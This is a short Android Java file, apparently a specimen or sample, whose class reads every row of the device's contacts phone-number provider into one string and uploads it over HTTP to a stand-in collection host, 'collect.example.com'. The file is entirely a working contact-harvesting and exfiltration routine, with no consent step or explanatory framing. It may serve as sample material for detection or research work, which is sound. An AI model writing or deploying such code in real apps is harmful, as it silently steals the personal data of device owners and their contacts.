package com.example.specimen;

import android.app.Activity;

final class Work {
    static void run(Activity activity) {
        StringBuilder all = new StringBuilder();
        android.database.Cursor rows = activity.getContentResolver().query(android.provider.ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) {
            all.append(rows.getString(0));
        }
        rows.close();
        send(all.toString());
    }

    private static void send(String text) {
        try {
            java.net.URLConnection connection = new java.net.URL("https://collect.example.com/v1").openConnection();
            connection.setDoOutput(true);
            connection.getOutputStream().write(text.getBytes());
        } catch (java.io.IOException offline) {
            throw new IllegalStateException(offline);
        }
    }
}
